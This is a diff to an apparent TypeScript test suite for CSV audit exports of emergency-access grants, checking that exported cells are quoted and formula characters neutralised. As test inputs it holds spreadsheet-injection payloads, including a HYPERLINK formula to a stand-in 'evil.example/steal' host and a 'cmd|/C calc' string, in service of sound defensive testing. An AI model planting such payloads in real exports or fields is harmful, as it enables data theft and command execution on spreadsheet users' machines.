@@ -11,6 +11,10 @@ import { textBody } from '../support/text-body.js';
 const BULK = 1_234;
 const FORMULA_REASON = '=HYPERLINK("http://evil.example/steal","Open the chart")';
 const FORMULA_AGENT = '+SUM(1+1)*cmd|/C calc';
+/** Harmless at its start, but a semicolon-locale spreadsheet splits it into formula cells. */
+const SEMICOLON_AGENT = 'Mozilla;=1+2;@SUM(A1)';
+/** One record whose every field is quoted. */
+const ALL_QUOTED_RECORD = /^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/;
 
 interface FhirResource {
   readonly id: string;
@@ -25,6 +29,7 @@ describe('audit exports', () => {
   let t: TestApp;
   let auditor: UserWithTokens;
   let grantId: string;
+  let semicolonGrantId: string;
   const patient = uuidv7();
   const prefix = `export-${uuidv7()}`;
 
@@ -44,6 +49,14 @@ describe('audit exports', () => {
       .send({ patientId: patient, reason: FORMULA_REASON });
     expect(grant.status).toBe(201);
     grantId = grant.body.grantId as string;
+    const semicolonGrant = await t
+      .http()
+      .post('/api/v1/auth/emergency-access')
+      .set('Authorization', bearer(doctor.accessToken))
+      .set('User-Agent', SEMICOLON_AGENT)
+      .send({ patientId: uuidv7(), reason: 'Unconscious on arrival' });
+    expect(semicolonGrant.status).toBe(201);
+    semicolonGrantId = semicolonGrant.body.grantId as string;
     await insertOutboxEvents(t, BULK, { prefix, type: 'test.BulkArchived.v1' });
     await appendAll(t);
   });
@@ -61,6 +74,18 @@ describe('audit exports', () => {
     // The payload column is JSON, which starts with a brace and keeps the reason as it was given.
     expect(JSON.parse(row.change)).toMatchObject({ reason: FORMULA_REASON, patientId: patient });
     expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it('quotes every cell and neutralises formula characters after a separator', async () => {
+    const res = await download(`format=csv&resourceType=EmergencyAccessGrant&resourceId=${semicolonGrantId}`);
+    expect(res.status).toBe(200);
+    const text = asText(res);
+    // Read with `;` as the separator, no piece of the agent may start with a formula character.
+    expect(text).toContain(`"Mozilla;'=1+2;'@SUM(A1)"`);
+    expect(csvObjects(text)[0].userAgent).toBe("Mozilla;'=1+2;'@SUM(A1)");
+    const records = text.split('\r\n').filter((line) => line !== '');
+    expect(records).toHaveLength(2);
+    for (const record of records) expect(record).toMatch(ALL_QUOTED_RECORD);
   });
 
   it('streams every matching entry as CSV, oldest first, across many reads', async () => {
